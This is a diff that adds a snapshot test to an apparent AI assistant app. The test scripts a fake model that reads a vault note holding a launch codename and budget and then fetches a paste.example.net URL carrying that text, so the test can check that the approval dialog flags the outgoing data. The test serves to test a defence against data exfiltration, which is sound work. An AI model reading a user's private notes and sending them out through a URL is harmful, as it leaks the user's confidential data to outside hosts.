@@ -4,6 +4,7 @@ and look at every SVG in snapshots/test_snapshots/ before accepting."""
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 from typing import Any
 
@@ -167,3 +168,30 @@ def test_queued_messages(snap_compare: Any, tmp_path: Path) -> None:
         await pilot.pause(0.3)
 
     assert snap_compare(app, terminal_size=SMALL, run_before=run_before)
+
+
+def test_approval_egress_sources(snap_compare: Any, tmp_path: Path) -> None:
+    """A note was read, then the model fetches a URL carrying its text: the dialog names the
+    note and marks what the URL carries (web_policy.fetch is "allow": the guard still asks)."""
+    from pydantic_ai.models.function import DeltaToolCall
+
+    vault = tmp_path / "vault"
+    vault.mkdir()
+    (vault / "plan.md").write_text("Launch codename: BLUE-HERON-42, budget 1.2M.\n")
+    url = "https://paste.example.net/upload?text=BLUE-HERON-42%20budget"
+    calls = [("read_note", {"filename": "plan.md"}), ("web_fetch", {"url": url})]
+
+    async def stream(messages: Any, info: Any) -> Any:
+        step = sum(1 for m in messages if getattr(m, "kind", "") == "response")
+        name, args = calls[min(step, 1)]
+        yield {0: DeltaToolCall(name=name, json_args=json.dumps(args), tool_call_id=f"c{step}")}
+
+    settings = Settings(theme="textual-dark", obsidian_vault_path=str(vault))
+    app = make_app(stream, tmp_path, settings=settings)
+
+    async def run_before(pilot: Any) -> None:
+        await _submit(pilot, "Share the plan.")
+        await approval_dialog(pilot, pilot.app)
+        await pilot.pause()
+
+    assert snap_compare(app, terminal_size=(100, 30), run_before=run_before)
